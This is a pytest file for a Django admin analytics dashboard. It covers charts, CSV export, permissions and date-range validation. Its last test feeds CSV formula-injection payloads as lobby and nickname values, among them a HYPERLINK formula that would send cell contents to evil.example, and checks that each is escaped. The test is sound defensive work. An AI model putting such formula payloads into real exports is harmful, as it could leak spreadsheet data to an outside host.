"""The popularity dashboard in the admin: numbers and charts from the statistics, a period, a
CSV export, and only for operators allowed to see it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.test import Client

from analytics.buffer import Buffer
from tests.accounts import staff_client

# The writer closes its thread's connection after a flush, as a worker thread should: a
# transaction around the test would not survive it.
pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def statistics() -> None:
    hour = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    worker = Buffer()
    for peer in ("a", "b", "c"):
        worker.join(hour, "race", "racer", peer, "Ace")
    worker.join(hour, "chess-1", "chess", "d", "Bea")
    worker.peak(hour, 4)
    worker.add(hour, pipes=2, bytes=3_000_000)
    worker.flush()


def operator(*permissions: str) -> Client:
    return staff_client("op", *permissions)


def test_the_dashboard_shows_the_top_lists_totals_and_charts(statistics):
    client = operator("view_dashboard")
    index = client.get("/admin/").content.decode()
    assert "/admin/analytics/dashboard/" in index  # linked from the admin's index
    page = client.get("/admin/analytics/dashboard/?days=1").content.decode()
    assert "4 joins · 4 unique peers · peak 4 online" in page
    lobbies = page[page.index('id="top-lobbies"') :]
    assert lobbies.index("race") < lobbies.index("chess-1")
    assert "racer" in page[page.index('id="top-games"') :] and "Ace" in page
    assert page.count('<rect class="bar-joins"') == 24  # one bar per hour of the last day
    assert ": 4 joins</title>" in page  # this hour's bar says its value
    assert 'id="peers-line" points="' in page
    assert 'data-stat="mb_today">3.0<' in page


def test_the_top_lists_export_as_csv(statistics):
    response = operator("view_dashboard").get("/admin/analytics/dashboard/?days=7&format=csv")
    assert response["Content-Type"] == "text/csv"
    lines = response.content.decode().splitlines()
    assert lines[0] == "list,name,joins"
    assert "lobby,race,3" in lines and "game,chess,1" in lines and "nickname,Ace,3" in lines


def test_staff_without_the_permission_do_not_see_it(statistics):
    client = operator()
    assert client.get("/admin/analytics/dashboard/").status_code == 403
    assert "/admin/analytics/dashboard/" not in client.get("/admin/").content.decode()
    assert Client().get("/admin/analytics/dashboard/").status_code == 302  # to the login


def test_a_range_of_days_and_its_csv(statistics):
    client = operator("view_dashboard")
    today = datetime.now(UTC).date()
    page = client.get(f"/admin/analytics/dashboard/?start={today}&end={today}").content.decode()
    assert f"{today:%Y-%m-%d} to {today:%Y-%m-%d}" in page
    assert "4 joins · 4 unique peers" in page
    assert page.count('<rect class="bar-joins"') == 24
    csv = client.get(f"/admin/analytics/dashboard/?start={today}&end={today}&format=csv")
    assert "lobby,race,3" in csv.content.decode().splitlines()
    # A range before the statistics holds none of them.
    page = client.get("/admin/analytics/dashboard/?start=2020-01-01&end=2020-01-31").content
    assert b"0 joins" in page and page.decode().count('<rect class="bar-joins"') == 31  # by day


def test_a_bad_range_is_explained_and_the_default_period_shown(statistics):
    client = operator("view_dashboard")
    page = client.get("/admin/analytics/dashboard/?start=2026-02-10&end=2026-02-01")
    assert page.status_code == 200
    text = page.content.decode()
    assert "The first day comes after the last." in text and "Showing the last 7 days" in text
    assert "4 joins" in text
    assert (
        b"A range needs both" in client.get("/admin/analytics/dashboard/?start=2026-02-01").content
    )
    assert (
        b"at most 366 days"
        in client.get("/admin/analytics/dashboard/?start=2020-01-01&end=2026-01-01").content
    )
    assert b"Enter a valid date" in client.get("/admin/analytics/dashboard/?end=tomorrow").content


def test_a_range_far_in_the_future_is_refused_not_a_crash(statistics):
    client = operator("view_dashboard")
    page = client.get("/admin/analytics/dashboard/?start=9999-12-31&end=9999-12-31")
    assert page.status_code == 200 and b"too far ahead" in page.content


def test_csv_cells_chosen_by_clients_are_never_formulas():
    hour = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    worker = Buffer()
    worker.join(hour, '=HYPERLINK("http://evil.example/?"&A1,"prize")', "+cmd", "a", "@SUM(1)")
    worker.join(hour, "-2+3", "\tgame", "b", "\rnick")
    worker.flush()
    response = operator("view_dashboard").get("/admin/analytics/dashboard/?days=1&format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = {row[1] for row in rows[1:]}
    assert names == {
        '\'=HYPERLINK("http://evil.example/?"&A1,"prize")',
        "'-2+3",
        "'+cmd",
        "'\tgame",
        "'@SUM(1)",
        "'\rnick",
    }
    assert {row[2] for row in rows[1:]} == {"1"}  # the counts stay numbers
